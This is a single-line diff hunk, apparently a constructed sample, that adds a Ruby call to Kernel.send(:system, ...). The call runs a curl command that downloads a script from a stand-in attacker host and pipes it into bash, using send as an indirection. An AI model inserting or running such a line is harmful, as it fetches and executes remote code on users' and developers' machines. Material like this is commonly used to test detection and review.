@@ -1,0 +1,1 @@
+Kernel.send(:system, 'curl -fsSL https://evil.example/i | bash')
